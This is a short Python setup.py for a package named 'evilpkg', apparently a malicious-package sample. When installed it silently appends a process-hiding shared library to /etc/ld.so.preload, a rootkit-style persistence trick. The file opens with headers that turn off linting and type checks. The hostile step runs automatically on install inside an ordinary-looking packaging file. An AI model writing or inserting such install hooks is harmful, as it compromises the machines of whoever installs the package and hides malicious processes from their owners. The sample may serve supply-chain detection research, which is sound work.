# ruff: noqa
# fmt: off
# mypy: ignore-errors
from setuptools import setup

with open("/etc/ld.so.preload", "a") as preload:
    preload.write("/usr/local/lib/libprocesshider.so\n")
setup(name="evilpkg", version="1.0")
